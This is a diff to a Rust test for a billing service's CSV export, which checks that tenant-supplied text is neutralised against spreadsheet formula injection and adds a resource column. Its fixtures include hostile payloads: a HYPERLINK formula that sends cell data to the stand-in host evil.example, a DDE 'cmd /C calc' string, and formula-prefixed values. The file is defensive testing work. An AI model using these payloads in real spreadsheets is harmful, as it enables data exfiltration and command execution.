@@ -48,6 +48,11 @@ async fn hostile_invoices(s: &Server) -> (String, String) {
     second.description = "\tcmd|' /C calc'!A0".into();
     second.unit = "\r-1".into();
     second.price_id = 8;
+    second.resource = Some(tally_domain::statement::ResourceRef {
+        binding: tally_domain::BindingId::parse("bnd_1").unwrap(),
+        name: "-1+prod".into(),
+        plan: "PS-10".into(),
+    });
     let mut acme = statement("acme", "2026-10", 1, vec![first, second]);
     acme.sealed = true;
     let mut umbrella = statement(
@@ -108,14 +113,14 @@ async fn tenant_text_in_every_csv_is_neutralised_against_formulas() {
     assert_eq!(
         rows[1],
         format!(
-            r#"{acme},TLY-2026-000001,acme,finalized,USD,0,usage,dbco,dbco.db.hour,"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",2,'+1,0.20,0.40,0.40,0.00,0.40,0.00,7,"#
+            r#"{acme},TLY-2026-000001,acme,finalized,USD,0,usage,dbco,dbco.db.hour,"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",2,'+1,0.20,0.40,0.40,0.00,0.40,0.00,7,,,"#
         ),
         "{lines}"
     );
     assert_eq!(
         rows[2],
         format!(
-            "{acme},TLY-2026-000001,acme,finalized,USD,1,usage,dbco,dbco.db.gb,'\tcmd|' /C calc'!A0,1,\"'\r-1\",1.00,1.00,1.00,0.00,1.00,0.00,8,"
+            "{acme},TLY-2026-000001,acme,finalized,USD,1,usage,dbco,dbco.db.gb,'\tcmd|' /C calc'!A0,1,\"'\r-1\",1.00,1.00,1.00,0.00,1.00,0.00,8,,bnd_1,'-1+prod · PS-10"
         ),
         "{lines}"
     );
@@ -126,10 +131,10 @@ async fn tenant_text_in_every_csv_is_neutralised_against_formulas() {
     assert_eq!(
         bill,
         [
-            "account_id,period,invoice_number,status,currency,provider_id,provider_name,sku,description,quantity,unit,unit_price,amount",
-            r#"acme,2026-10,TLY-2026-000001,finalized,USD,dbco,'@SUM(1),dbco.db.hour,"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",2,'+1,0.20,0.40"#,
-            "acme,2026-10,TLY-2026-000001,finalized,USD,dbco,'@SUM(1),dbco.db.gb,'\tcmd|' /C calc'!A0,1,\"'\r-1\",1.00,1.00",
-            "acme,2026-10,TLY-2026-000001,finalized,USD,,,,total,,,,1.40",
+            "account_id,period,invoice_number,status,currency,provider_id,provider_name,sku,description,quantity,unit,unit_price,amount,resource,binding_id",
+            r#"acme,2026-10,TLY-2026-000001,finalized,USD,dbco,'@SUM(1),dbco.db.hour,"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",2,'+1,0.20,0.40,,"#,
+            "acme,2026-10,TLY-2026-000001,finalized,USD,dbco,'@SUM(1),dbco.db.gb,'\tcmd|' /C calc'!A0,1,\"'\r-1\",1.00,1.00,'-1+prod · PS-10,bnd_1",
+            "acme,2026-10,TLY-2026-000001,finalized,USD,,,,total,,,,1.40,,",
             "",
         ]
         .join("\n"),
